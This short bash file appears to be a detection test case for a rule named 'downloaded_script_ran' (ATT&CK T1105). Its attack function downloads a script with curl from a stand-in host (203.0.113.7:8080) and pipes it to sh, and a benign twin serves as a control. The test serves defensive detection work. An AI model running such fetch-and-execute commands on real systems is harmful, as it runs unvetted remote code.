#!/bin/bash
# What a download tool brought is given to a shell as its script.
#: title: Downloaded script run
#: technique: T1105
#: needs: exec
#: rules: downloaded_script_ran
#: twin: sources are fetched, and a script of the system is run
. "$DRIVERS/lib.sh"

fetched() {
	site
	curl -sO http://203.0.113.7:8080/install
	sh install
}

built() {
	site
	cp site/tool site/tool-1.0.tar.gz
	curl -sO http://203.0.113.7:8080/tool-1.0.tar.gz
	sh site/install
}

attack() {
	in_own_network fetched
	did "$WORK/install"
}

twin() {
	in_own_network built
	did "$WORK/tool-1.0.tar.gz"
}

"$1"
